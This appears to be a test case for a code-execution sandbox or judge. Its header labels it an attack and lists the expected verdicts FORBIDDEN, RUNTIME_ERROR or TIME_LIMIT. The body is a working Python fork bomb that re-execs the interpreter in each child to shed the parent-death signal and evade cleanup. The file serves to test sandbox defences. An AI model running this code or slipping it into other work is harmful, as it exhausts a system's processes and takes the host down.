# [attack]
# title = "A fork bomb that starts fresh interpreters"
# mode = "program"
# verdict = ["FORBIDDEN", "RUNTIME_ERROR", "TIME_LIMIT"]
"""exec drops the parent-death signal of some set-ups and gives each process a new name."""
import os
import sys

while True:
    try:
        for _ in range(2):
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, __file__])
        os.wait()
    except OSError:
        pass
